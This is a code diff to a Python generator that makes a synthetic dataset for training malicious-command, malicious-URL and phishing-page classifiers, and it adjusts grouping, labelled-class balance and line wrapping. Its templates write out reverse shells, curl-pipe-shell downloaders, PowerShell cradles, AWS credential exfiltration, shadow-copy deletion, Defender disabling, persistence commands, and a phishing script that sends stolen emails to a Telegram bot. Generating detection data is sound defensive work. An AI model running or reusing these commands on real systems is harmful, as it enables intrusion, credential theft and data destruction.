@@ -5,7 +5,7 @@ paths, IPs, brands). Hard negatives are there on purpose (benign certutil, encod
 management agent, `curl | sh` installers, real login pages), so that no single token separates the
 classes. Each artifact gets four parts in mixed formats, split into shards:
 
-* labelled:   clean, analyst-labelled rows from the families analysts know;
+* labelled:   clean, analyst-labelled rows of the groups analysts know, enriched in detections;
 * noisy:      a larger set with label noise applied (`true_label` keeps the clean label);
 * unlabelled: label null;
 * test:       clean, and group-disjoint from the other three parts.
@@ -42,6 +42,7 @@ PARTS = ("labelled", "noisy", "unlabelled", "test")
 CLASSES = {"cmdline": ("benign", "malicious"), "url": ("benign", "malicious"), "html": ("benign", "phishing")}
 TEXT_COLUMN = {"cmdline": "text", "url": "url", "html": "html"}
 POSITIVE_SHARE = {"cmdline": 0.3, "url": 0.4, "html": 0.35}
+LABELLED_POSITIVE_SHARE = 0.45
 # Signature-style noise: detections are missed far more often than benign rows are flagged.
 FLIP_RATES = {artifact: {classes[1]: 0.2, classes[0]: 0.04} for artifact, classes in CLASSES.items()}
 NOVEL_SHARE = 0.15  # share of the non-test rows whose groups analysts never labelled (noisy/unlabelled only)
@@ -72,7 +73,8 @@ and random parts; no row comes from real telemetry. It exists so that the embedd
 a machine without real data. Do not draw conclusions about real detection quality from it.
 
 Artifacts: cmdline (column `text`), url (column `url`), html (column `html`); every file also has
-`id`, `label`, `source` and `group` (cmdline also `platform`). Classes: {classes}.
+`id`, `label`, `source` and `group`; cmdline also `platform` and `family` (the benign tool set or the
+attack technique; `group` is the binary). Classes: {classes}.
 
 Parts of each artifact (each split into shards, in mixed formats on purpose):
 * labelled/    clean, analyst-style labels
@@ -283,18 +285,19 @@ def _fill(template: str, rng: random.Random) -> str:
 
 
 # ---------------------------------------------------------------------------------------------------
-# Command lines. A family is a group: a benign binary or a malicious technique.
+# Command lines, grouped by the binary they run; a family names the tool set or the technique. A held-out
+# binary tests what carries over from the tradecraft around it (paths, hosts, launchers), not the tool's name.
 
 @dataclass(frozen=True)
 class Family:
-    group: str
+    name: str
     templates: tuple[str, ...]
     platform: str = ""
     weight: float = 1.0
 
 
-def _family(group: str, platform: str, *templates: str, weight: float = 1.0) -> Family:
-    return Family(group, templates, platform, weight)
+def _family(name: str, platform: str, *templates: str, weight: float = 1.0) -> Family:
+    return Family(name, templates, platform, weight)
 
 
 BENIGN_CMDLINES = (
@@ -347,7 +350,7 @@ BENIGN_CMDLINES = (
             "openssl s_client -connect {corp_site}:443 -servername {corp_site}",
             "openssl req -new -newkey rsa:2048 -nodes -keyout {site}.key -out {site}.csr"),
     _family("base64", "linux", "echo '{b64_config}' | base64 -d | jq .", "base64 -w0 {cert}.pem > {cert}.b64",
-            "echo -n '{user}:{password}' | base64"),
+            "echo -n \"{user}:$API_TOKEN\" | base64"),
     _family("crontab", "linux", "crontab -l", "crontab -e", "sudo crontab -u {user} -l"),
     _family("apt", "linux", "sudo apt-get update && sudo apt-get install -y {apt_pkg}", "sudo apt upgrade -y",
             "apt list --installed | grep {apt_pkg}"),
@@ -381,7 +384,8 @@ BENIGN_CMDLINES = (
             "Invoke-RestMethod -Uri https://{corp_site}/api/health",
             "iwr https://{corp_site}/files/{fname}.zip -OutFile {fname}.zip"),
     _family("schtasks", "windows", "schtasks /query /fo LIST /v", 'schtasks /run /tn "{benign_task}"',
-            r'schtasks /create /tn "{benign_task}" /tr "C:\Scripts\{script}.cmd" /sc daily /st 02:00 /ru {corp_short}\svc_backup'),
+            r'schtasks /create /tn "{benign_task}" /tr "C:\Scripts\{script}.cmd" /sc daily /st 02:00 '
+            r"/ru {corp_short}\svc_backup"),
     _family("reg", "windows", r"reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s /f {app}",
             r"reg export HKCU\Software\{vendor} C:\Backup\{vendor}.reg",
             r"reg add HKLM\SOFTWARE\Policies\{vendor}\{app} /v AutoUpdate /t REG_DWORD /d 0 /f"),
@@ -400,7 +404,8 @@ BENIGN_CMDLINES = (
 
 MALICIOUS_CMDLINES = (
     _family("encoded-powershell", "windows", "powershell.exe -nop -w hidden -enc {b64_ps}",
-            "powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {b64_ps}", "cmd.exe /c powershell -e {b64_ps}",
+            "powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {b64_ps}",
+            "cmd.exe /c powershell -e {b64_ps}",
             "powershell.exe -ExecutionPolicy bypass -windowstyle hidden -e {b64_ps}"),
     _family("powershell-cradle", "windows",
             "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('{payload_url_ps1}')\"",
@@ -435,7 +440,8 @@ MALICIOUS_CMDLINES = (
             'schtasks /create /sc onlogon /tn "{mal_task}" /tr "{win_drop_exe}" /ru SYSTEM /f',
             'schtasks /create /tn "{mal_task}" /tr "powershell -w hidden -enc {b64_ps}" /sc minute /mo {n} /f'),
     _family("run-key-persistence", "windows",
-            r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v "{mal_task}" /t REG_SZ /d "{win_drop_exe}" /f',
+            r'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v "{mal_task}" /t REG_SZ '
+            r'/d "{win_drop_exe}" /f',
             r'reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v {rand} /d "rundll32 {win_drop_dll},'
             r'{dll_export}" /f',
             r"New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name {rand} "
@@ -444,29 +450,34 @@ MALICIOUS_CMDLINES = (
             "New-Service -Name {rand} -BinaryPathName '{win_drop_exe}' -StartupType Automatic"),
     _family("inhibit-recovery", "windows", "vssadmin delete shadows /all /quiet", "wmic shadowcopy delete",
             "bcdedit /set {bcd_entry} recoveryenabled No", "wbadmin delete catalog -quiet",
-            "vssadmin.exe Delete Shadows /All /Quiet & bcdedit /set {bcd_entry} bootstatuspolicy ignoreallfailures"),
+            "vssadmin.exe Delete Shadows /All /Quiet & bcdedit /set {bcd_entry} bootstatuspolicy ignoreallfailures",
+            "vssadmin delete shadows /all /quiet & start {win_drop_exe}"),
     _family("defense-evasion", "windows", "Set-MpPreference -DisableRealtimeMonitoring $true",
             "powershell -c \"Add-MpPreference -ExclusionPath '{win_drop_dir}'\"",
-            "netsh advfirewall set allprofiles state off", "wevtutil cl Security", "sc stop WinDefend"),
+            "netsh advfirewall set allprofiles state off", "wevtutil cl Security", "sc stop WinDefend",
+            "Set-MpPreference -DisableRealtimeMonitoring $true; Start-Process {win_drop_exe}"),
     # Discovery is only malicious in context: the same commands run in benign admin sessions.
     _family("discovery", "windows", "whoami /all", 'net group "Domain Admins" /domain',
             "nltest /domain_trusts /all_trusts", "net localgroup administrators", "quser",
-            'cmd.exe /c "whoami & hostname & ipconfig /all & net user"', weight=0.5),
+            'cmd.exe /c "whoami & hostname & ipconfig /all & net user"', r"whoami /all > {win_drop_dir}\{rand}.txt",
+            weight=0.3),
     _family("lateral-movement", "windows", r"psexec.exe \\{host} -u {corp_short}\{user} -p {password} -s cmd.exe",
             'wmic /node:{ip_internal} process call create "cmd.exe /c {win_drop_exe}"',
             "Invoke-Command -ComputerName {host} -ScriptBlock { IEX (New-Object Net.WebClient).DownloadString("
             "'{payload_url_ps1}') }", 'winrs -r:{host} "{win_drop_exe}"'),
     _family("account-creation", "windows", "net user {mal_user} {password} /add",
-            "net localgroup administrators {mal_user} /add", "net user {mal_user} {password} /add /domain"),
+            "net localgroup administrators {mal_user} /add", "net user {mal_user} {password} /add /domain",
+            "net user {mal_user} {password} /add & net localgroup administrators {mal_user} /add"),
     _family("reverse-shell-powershell", "windows",
             "powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('{ip_public}',{port});"
             "$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0}\""),
     _family("reverse-shell-bash", "linux", "bash -i >& /dev/tcp/{ip_public}/{port} 0>&1",
             "bash -c 'bash -i >& /dev/tcp/{ip_public}/{port} 0>&1'", "sh -i >& /dev/udp/{ip_public}/{port} 0>&1",
-            "0<&196;exec 196<>/dev/tcp/{ip_public}/{port}; sh <&196 >&196 2>&196"),
+            "sh -c 'exec 196<>/dev/tcp/{ip_public}/{port}; sh <&196 >&196 2>&196'"),
     _family("reverse-shell-nc", "linux", "nc -e /bin/sh {ip_public} {port}",
             "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip_public} {port} >/tmp/f",
-            "ncat {ip_public} {port} -e /bin/bash", "socat tcp-connect:{ip_public}:{port} exec:/bin/sh,pty,stderr,setsid"),
+            "ncat {ip_public} {port} -e /bin/bash",
+            "socat tcp-connect:{ip_public}:{port} exec:/bin/sh,pty,stderr,setsid"),
     _family("reverse-shell-script", "linux",
             "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
             's.connect(("{ip_public}",{port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
@@ -476,16 +487,18 @@ MALICIOUS_CMDLINES = (
             "php -r '$sock=fsockopen(\"{ip_public}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
     _family("curl-pipe-shell", "linux", "curl -fsSL {payload_url_sh} | sh", "wget -qO- {payload_url_sh} | bash",
             "curl -s {payload_url_sh} | bash -s", "(curl -fsSL {payload_url_sh}||wget -q -O- {payload_url_sh})|sh",
-            "cd /tmp; wget {payload_url_bin}; chmod +x {bin_name}; ./{bin_name}"),
+            "wget -P /tmp {payload_url_bin}; chmod +x /tmp/{bin_name}; /tmp/{bin_name}"),
     _family("base64-shell", "linux", "echo {b64_sh} | base64 -d | bash", "echo '{b64_sh}' | base64 --decode | sh",
             'bash -c "$(echo {b64_sh} | base64 -d)"',
-            "python3 -c \"import base64,os;os.system(base64.b64decode('{b64_sh}'))\""),
+            "python3 -c \"import base64,os;os.system(base64.b64decode('{b64_sh}'))\"",
+            "echo {b64_sh} | base64 -d > /tmp/.{rand}; sh /tmp/.{rand}"),
     _family("cron-persistence", "linux",
             '(crontab -l 2>/dev/null; echo "*/{n} * * * * curl -fsSL {payload_url_sh} | sh") | crontab -',
             "echo '@reboot /tmp/.{rand}' >> /var/spool/cron/crontabs/root",
             "echo \"* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/{ip_public}/{port} 0>&1'\" > /etc/cron.d/{rand}"),
     _family("ssh-key-persistence", "linux", "echo '{ssh_key}' >> /root/.ssh/authorized_keys",
-            "mkdir -p ~/.ssh && echo '{ssh_key}' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys"),
+            "mkdir -p ~/.ssh && echo '{ssh_key}' >> ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys",
+            "curl -fsSL {payload_url_sh} -o /tmp/.{rand} && cat /tmp/.{rand} >> /root/.ssh/authorized_keys"),
     _family("linux-credential-access", "linux", "cat /etc/shadow", "unshadow /etc/passwd /etc/shadow > /tmp/{rand}.txt",
             "grep -r 'password' /home/*/.bash_history", "find / -name id_rsa 2>/dev/null",
             "cat ~/.aws/credentials | curl -X POST -d @- http://{ip_public}:{web_port}/"),
@@ -493,7 +506,8 @@ MALICIOUS_CMDLINES = (
             "nohup /tmp/.{rand}/kworker -c /tmp/.{rand}/config.json >/dev/null 2>&1 &",
             "chmod +x /tmp/.{rand} && /tmp/.{rand} -o stratum+tcp://{pool}:{pool_port} -u {wallet}"),
     _family("log-tampering", "linux", "history -c && rm -f ~/.bash_history", "unset HISTFILE; export HISTSIZE=0",
-            "echo > /var/log/auth.log", "setenforce 0; systemctl stop firewalld"),
+            "echo > /var/log/auth.log", "setenforce 0; systemctl stop firewalld",
+            "unset HISTFILE; curl -fsSL {payload_url_sh} | sh", "shred -u /var/log/auth.log /tmp/.{rand}"),
     _family("exfiltration", "linux", "tar czf - /home/{user} | nc {ip_public} {port}",
             "curl -F 'file=@/etc/passwd' http://{ip_public}:{web_port}/upload",
             "rclone copy /srv/{repo} mega:{rand} --transfers 16", "scp -r /var/www {mal_user}@{ip_public}:/tmp/"),
@@ -508,26 +522,44 @@ SENSORS = {"windows": ("sysmon", "edr"), "linux": ("auditd", "edr"), "macos": ("
 LAUNCHERS = {
     ("benign", "windows"): (("cmd.exe /c ", ""), ("cmd /c ", r" > C:\Logs\{script}.log"),
                             ("", r" >> \\{fileserver}\{share}\logs\{host}.txt"),
-                            (r'runas /user:{corp_short}\{user} "', '"')),
+                            (r'runas /user:{corp_short}\{user} "', '"'), ("", " && echo done")),
     ("malicious", "windows"): (("cmd.exe /c ", ""), ("cmd /q /c ", r" > {win_drop_dir}\{rand}.log 2>&1"),
                                (r'C:\Windows\System32\cmd.exe /c "', '"'), ("", r" & del /f /q {win_drop_exe}"),
-                               ("", r" & start /b {win_drop_exe}"), ("", " && ping -n 3 127.0.0.1 > nul")),
+                               ("", r" & start /b {win_drop_exe}"), ("", " && ping -n 3 127.0.0.1 > nul"),
+                               ("", " & powershell -w hidden -enc {b64_ps}"),
+                               ("", r" & timeout /t 3 & start {win_drop_exe}")),
     ("benign", "linux"): (("sudo ", ""), ("", " | tee {fname}.log"), ("time ", ""), ('bash -c "', '"'),
-                          ("", " > /tmp/{fname}.out 2>&1"), ("cd {lin_dir} && ", "")),
+                          ("", " > /tmp/{fname}.out 2>&1"), ("cd {lin_dir} && ", ""), ("", " && echo done")),
     ("malicious", "linux"): (("nohup sh -c '", "' >/dev/null 2>&1 &"), ("sudo ", ""), ("", "; rm -f /tmp/.{rand}"),
-                             ("cd /tmp && ", ""), ("", " 2>/dev/null &"), ('sh -c "', '"')),
+                             ("cd /tmp && ", ""), ("", " 2>/dev/null &"), ('sh -c "', '"'),
+                             ("", " && chmod +x /tmp/.{rand} && /tmp/.{rand}"),
+                             ("", "; curl -fsSL {payload_url_sh} | sh"),
+                             ("cd /dev/shm; ", "")),
 }
-LAUNCHED_SHARE = 0.35
+LAUNCHED_SHARE = {"benign": 0.3, "malicious": 0.6}
 
 
 def _cmdline_row(rng: random.Random, label: str) -> dict[str, str]:
     family = _weighted(rng, BENIGN_CMDLINES if label == "benign" else MALICIOUS_CMDLINES)
     text = _fill(rng.choice(family.templates), rng)
-    if rng.random() < LAUNCHED_SHARE:
+    group = _binary(text)
+    if rng.random() < LAUNCHED_SHARE[label]:
         prefix, suffix = rng.choice(LAUNCHERS[label, "windows" if family.platform == "windows" else "linux"])
         text = _fill(prefix, rng) + text + _fill(suffix, rng)
-    return {"text": text, LABEL: label, GROUP: family.group, SOURCE: rng.choice(SENSORS[family.platform]),
-            "platform": family.platform}
+    return {"text": text, LABEL: label, GROUP: group, SOURCE: rng.choice(SENSORS[family.platform]),
+            "platform": family.platform, "family": family.name}
+
+
+BINARY_ALIASES = {"gci": "get-childitem", "pip3": "pip", "apt-get": "apt", "iwr": "invoke-webrequest",
+                  "pwsh": "powershell", "npx": "npm", "python": "python3"}
+
+
+def _binary(command: str) -> str:
+    """The program a command line runs: its first word without sudo, folders and .exe, aliases resolved."""
+    words = command.lstrip("(").split()
+    name = words[1] if words[0] == "sudo" and len(words) > 1 else words[0]
+    name = name.replace("\\", "/").rsplit("/", 1)[-1].lower().removesuffix(".exe")
+    return BINARY_ALIASES.get(name, name)
 
 
 def _weighted(rng: random.Random, families: tuple[Family, ...]) -> Family:
@@ -542,7 +574,8 @@ WORDS.update({
     "gh_path": ("README.md", "src/{fname}.py", "docs/{slug}.md", "cmd/{tool}/main.go", ".github/workflows/ci.yml"),
     "q_slug": ("how-to-{slug}-in-python", "why-does-{tool}-fail-with-{slug}", "{slug}-best-practices",
                "difference-between-{pip_pkg}-and-{pip_pkg}"),
-    "wiki_title": ("Transport_Layer_Security", "Public_key_infrastructure", "Kubernetes", "Python_(programming_language)",
+    "wiki_title": ("Transport_Layer_Security", "Public_key_infrastructure", "Kubernetes",
+                   "Python_(programming_language)",
                    "Domain_Name_System", "Phishing", "Lisbon", "Photosynthesis", "Ada_Lovelace", "Byzantine_Empire"),
     "docs_url": ("https://docs.python.org/3/library/{py_module}.html", "https://developer.mozilla.org/en-US/docs/Web/{mdn}",
                  "https://learn.microsoft.com/en-us/{ms_docs}", "https://kubernetes.io/docs/concepts/{k8s}/",
@@ -552,7 +585,8 @@ WORDS.update({
     "mdn": ("HTTP/Headers/Content-Security-Policy", "JavaScript/Reference/Global_Objects/Promise", "CSS/grid",
             "API/Fetch_API", "HTML/Element/form"),
     "ms_docs": ("powershell/module/microsoft.powershell.management/get-childitem",
-                "windows-server/administration/windows-commands/robocopy", "azure/storage/blobs/storage-blobs-introduction",
+                "windows-server/administration/windows-commands/robocopy",
+                "azure/storage/blobs/storage-blobs-introduction",
                 "dotnet/csharp/tour-of-csharp/"),
     "k8s": ("workloads/pods", "services-networking/ingress", "configuration/secret", "storage/volumes"),
     "docker": ("install/ubuntu", "reference/commandline/run", "network", "storage/volumes"),
@@ -563,7 +597,8 @@ WORDS.update({
     "headline_word": ("council", "approves", "new", "budget", "storm", "hits", "coast", "researchers", "find", "rare",
                       "species", "market", "rally", "continues", "startup", "raises", "funding", "election", "results",
                       "patch", "fixes", "vulnerability", "team", "wins", "final"),
-    "query": ("{tool}+install+ubuntu", "weather+{news_city}", "{pip_pkg}+dataframe+merge", "cheap+flights+to+{news_city}",
+    "query": ("{tool}+install+ubuntu", "weather+{news_city}", "{pip_pkg}+dataframe+merge",
+              "cheap+flights+to+{news_city}",
               "how+to+reset+router", "{app}+download"),
     "news_city": ("lisbon", "berlin", "toronto", "osaka", "nairobi", "austin"),
     "subreddit": ("sysadmin", "programming", "python", "homelab", "netsec", "cooking"),
@@ -581,11 +616,13 @@ WORDS.update({
                   "service", "confirm", "recovery", "unlock", "alert", "help"),
     "any_tld": ("com", "net", "org", "xyz", "top", "info", "online", "app", "site", "live"),
     "lookalike": ("{brand}-{lure_word}.{bad_tld}", "{lure_word}-{brand}.{any_tld}", "{brand_typo}.{any_tld}",
-                  "{brand}.com.{lure_word}-{rand}.{bad_tld}", "{brand}{lure_word}{n}.com", "secure{n}-{brand}.{bad_tld}",
+                  "{brand}.com.{lure_word}-{rand}.{bad_tld}", "{brand}{lure_word}{n}.com",
+                  "secure{n}-{brand}.{bad_tld}",
                   "{lure_word}.{brand}-{lure_word}.{any_tld}"),
     "phish_path": ("/signin/", "/login.php", "/{brand}/login/index.html", "/secure/{lure_word}/?session={hex32}",
                    "/wp-content/plugins/{rand}/{brand}/index.php", "/account/verify?id={hex8}&email={user}%40gmail.com",
-                   "/owa/auth/logon.aspx?replaceCurrent=1", "/{rand}/auth.html", "/update-billing/", "/", "/index.html"),
+                   "/owa/auth/logon.aspx?replaceCurrent=1", "/{rand}/auth.html", "/update-billing/", "/",
+                   "/index.html"),
     "compromised": ("{shop_word}{shop_word}.com.br", "{shop_word}-{shop_word}.co.uk", "{shop_word}{n}.net",
                     "blog.{shop_word}{shop_word}.com"),
     "shop_word": ("garden", "studio", "dental", "auto", "bakery", "photo", "travel", "music", "yoga", "coffee",
@@ -690,24 +727,32 @@ BRANDS = tuple(Brand(*b) for b in (
     ("paypal", "PayPal", "paypal.com"), ("microsoft", "Microsoft", "login.microsoftonline.com"),
     ("outlook", "Outlook", "outlook.live.com"), ("apple", "Apple", "appleid.apple.com"),
     ("netflix", "Netflix", "netflix.com"), ("amazon", "Amazon", "amazon.com"), ("chase", "Chase", "chase.com"),
-    ("wellsfargo", "Wells Fargo", "wellsfargo.com"), ("dhl", "DHL", "dhl.com"), ("docusign", "DocuSign", "docusign.net"),
-    ("dropbox", "Dropbox", "dropbox.com"), ("linkedin", "LinkedIn", "linkedin.com"),
-    ("instagram", "Instagram", "instagram.com"), ("facebook", "Facebook", "facebook.com"),
-    ("adobe", "Adobe", "adobe.com"), ("coinbase", "Coinbase", "coinbase.com"), ("usps", "USPS", "usps.com"),
-    ("github", "GitHub", "github.com"),
+    ("wellsfargo", "Wells Fargo", "wellsfargo.com"), ("dhl", "DHL", "dhl.com"),
+    ("docusign", "DocuSign", "docusign.net"), ("dropbox", "Dropbox", "dropbox.com"),
+    ("linkedin", "LinkedIn", "linkedin.com"), ("instagram", "Instagram", "instagram.com"),
+    ("facebook", "Facebook", "facebook.com"), ("adobe", "Adobe", "adobe.com"),
+    ("coinbase", "Coinbase", "coinbase.com"), ("usps", "USPS", "usps.com"), ("github", "GitHub", "github.com"),
 ))
 ORDINARY_SITES = tuple(Brand(*b) for b in (
-    ("woodgrove-bank", "Woodgrove Bank", "woodgrovebank.com"), ("contoso-intranet", "Contoso Intranet", "intranet.contoso.com"),
-    ("tailspin-airlines", "Tailspin Airlines", "tailspintoys.com"), ("northwind-shop", "Northwind Traders", "northwindtraders.com"),
+    ("woodgrove-bank", "Woodgrove Bank", "woodgrovebank.com"),
+    ("contoso-intranet", "Contoso Intranet", "intranet.contoso.com"),
+    ("tailspin-airlines", "Tailspin Airlines", "tailspintoys.com"),
+    ("northwind-shop", "Northwind Traders", "northwindtraders.com"),
     ("fabrikam-hr", "Fabrikam HR Portal", "hr.fabrikam.com"), ("litware-mail", "Litware Mail", "mail.litwareinc.com"),
 ))
 NEWS_SITES = tuple(Brand(*b) for b in (
-    ("northwind-herald", "Northwind Herald", "northwindherald.com"), ("daily-byte", "The Daily Byte", "dailybyte.net"),
-    ("contoso-blog", "Contoso Engineering Blog", "blog.contoso.com"), ("tailspin-travel", "Tailspin Travel Notes", "tailspintravel.com"),
-    ("woodgrove-weekly", "Woodgrove Finance Weekly", "woodgroveweekly.com"), ("litware-science", "Litware Science", "litwarescience.org"),
-    ("proseware-health", "Proseware Health", "prosewarehealth.com"), ("fourth-coffee", "Fourth Coffee Kitchen", "fourthcoffee.com"),
-    ("adatum-security", "Adatum Security Blog", "adatum.com"), ("wingtip-sports", "Wingtip Sports", "wingtipsports.com"),
-    ("lucerne-books", "Lucerne Publishing", "lucernepublishing.com"), ("margies-travel", "Margie's Travel", "margiestravel.com"),
+    ("northwind-herald", "Northwind Herald", "northwindherald.com"),
+    ("daily-byte", "The Daily Byte", "dailybyte.net"),
+    ("contoso-blog", "Contoso Engineering Blog", "blog.contoso.com"),
+    ("tailspin-travel", "Tailspin Travel Notes", "tailspintravel.com"),
+    ("woodgrove-weekly", "Woodgrove Finance Weekly", "woodgroveweekly.com"),
+    ("litware-science", "Litware Science", "litwarescience.org"),
+    ("proseware-health", "Proseware Health", "prosewarehealth.com"),
+    ("fourth-coffee", "Fourth Coffee Kitchen", "fourthcoffee.com"),
+    ("adatum-security", "Adatum Security Blog", "adatum.com"),
+    ("wingtip-sports", "Wingtip Sports", "wingtipsports.com"),
+    ("lucerne-books", "Lucerne Publishing", "lucernepublishing.com"),
+    ("margies-travel", "Margie's Travel", "margiestravel.com"),
 ))
 
 SENTENCE_PARTS = {
@@ -732,7 +777,8 @@ URGENT_LINES = (
 )
 # Real sites say similar things on their own verification pages.
 BENIGN_NOTICES = (
-    "For your security, we sent a verification code to your phone.", "Signing in from a new device? We will ask for a code.",
+    "For your security, we sent a verification code to your phone.",
+    "Signing in from a new device? We will ask for a code.",
     "Session expired. Please sign in again.", "We have updated our privacy policy.",
 )
 
@@ -744,7 +790,8 @@ def _sentence(rng: random.Random) -> str:
 def _page(rng: random.Random, title: str, head: str, body: str) -> str:
     lang = rng.choice(("en", "en", "en-US", "en-GB"))
     return (f'<!DOCTYPE html><html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>'
-            f'<meta name="viewport" content="width=device-width, initial-scale=1">{head}</head><body>{body}</body></html>')
+            f'<meta name="viewport" content="width=device-width, initial-scale=1">{head}</head>'
+            f"<body>{body}</body></html>")
 
 
 def _footer(rng: random.Random, name: str, real_links: bool) -> str:
@@ -771,8 +818,8 @@ class LoginStyle:
 
 
 SITE_STYLE = LoginStyle(
-    actions=("/session", "/login", "https://{domain}/login", "https://auth.{domain}/authorize", "/oauth2/v2.0/authorize",
-             "login.php"),
+    actions=("/session", "/login", "https://{domain}/login", "https://auth.{domain}/authorize",
+             "/oauth2/v2.0/authorize", "login.php"),
     csrf=0.8, forgot=("/password/reset",) * 8 + ("#", None), hotlinked_assets=0.3, notices=BENIGN_NOTICES,
     notice=0.25, real_footer_links=0.9, signup=0.8, card_fields=0.0, prefilled_email=0.05,
     scripts=('<script src="/assets/app.{hex8}.js" defer></script>',) * 4 + ("",))
@@ -781,7 +828,8 @@ KIT_STYLE = LoginStyle(
              "https://{domain}.{rand}.{bad_tld}/auth", "", "/login"),
     csrf=0.35, forgot=("#", "#", "/password/reset", None), hotlinked_assets=0.5, notices=URGENT_LINES + BENIGN_NOTICES,
     notice=0.55, real_footer_links=0.4, signup=0.4, card_fields=0.15, prefilled_email=0.3,
-    scripts=("", '<script src="/assets/app.{hex8}.js" defer></script>', "<script>var _0x{hex8}=atob('{b64_key}');</script>",
+    scripts=("", '<script src="/assets/app.{hex8}.js" defer></script>',
+             "<script>var _0x{hex8}=atob('{b64_key}');</script>",
              "<script>document.write(unescape('%3C%64%69%76%3E{hex8}'));</script>",
              "<script>fetch('https://api.telegram.org/bot{tg_token}/sendMessage?chat_id={n8}&text='"
              "+encodeURIComponent(document.getElementById('email').value));</script>",
@@ -846,7 +894,8 @@ def _html_row(rng: random.Random, label: str) -> dict[str, str]:
     else:
         site = rng.choice(BRANDS + ORDINARY_SITES)
         page = _login_page(rng, site, SITE_STYLE)
-    return {"text": page, LABEL: label, GROUP: site.key, SOURCE: "mail-gateway" if rng.random() < 0.2 else "web-crawler"}
+    source = "mail-gateway" if rng.random() < 0.2 else "web-crawler"
+    return {"text": page, LABEL: label, GROUP: site.key, SOURCE: source}
 
 
 ROW_MAKERS: dict[str, Callable[[random.Random, str], dict[str, str]]] = {
@@ -887,8 +936,13 @@ def _make_parts(artifact: str, rng: random.Random, seed: int, scale: float) -> d
     in_test = _groups_in_split(pool, test_share, seed)
     rest = [row for row in pool if row[GROUP] not in in_test]
     novel = _groups_in_split(rest, NOVEL_SHARE, seed + 1)
-    known = [row for row in rest if row[GROUP] not in novel]
-    labelled, others = known[:sizes["labelled"]], known[sizes["labelled"]:] + [r for r in rest if r[GROUP] in novel]
+    known = {label: [r for r in rest if r[GROUP] not in novel and r[LABEL] == label] for label in CLASSES[artifact]}
+    # Analysts label detections more often than their base rate: the labelled part is enriched in positives.
+    n_positive = round(sizes["labelled"] * LABELLED_POSITIVE_SHARE)
+    n_benign = sizes["labelled"] - n_positive
+    labelled = known[positive][:n_positive] + known["benign"][:n_benign]
+    others = known[positive][n_positive:] + known["benign"][n_benign:] + [r for r in rest if r[GROUP] in novel]
+    rng.shuffle(labelled)
     rng.shuffle(others)
 
     tables = {
@@ -912,7 +966,7 @@ def _groups_in_split(rows: list[dict[str, str]], share: float, seed: int) -> set
 def _table(artifact: str, part: str, rows: list[dict[str, str]]) -> pa.Table:
     columns = {ID: [f"{artifact}-{part}-{i:05d}" for i in range(len(rows))],
                TEXT_COLUMN[artifact]: [r["text"] for r in rows]}
-    for name in (LABEL, SOURCE, GROUP, "platform"):
+    for name in (LABEL, SOURCE, GROUP, "platform", "family"):
         if rows and name in rows[0]:
             columns[name] = [r[name] for r in rows]
     return pa.table({name: pa.array(values, pa.string()) for name, values in columns.items()})
